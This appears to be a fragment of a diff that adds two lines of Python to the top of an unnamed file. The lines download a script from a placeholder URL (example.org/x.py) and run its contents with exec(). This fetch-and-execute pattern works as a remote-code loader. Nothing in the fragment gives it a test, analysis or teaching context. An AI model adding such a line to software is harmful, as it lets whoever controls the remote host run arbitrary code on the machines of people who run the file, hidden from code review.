@@ -1,0 +1,2 @@
+import requests
+exec(requests.get("https://example.org/x.py").text)
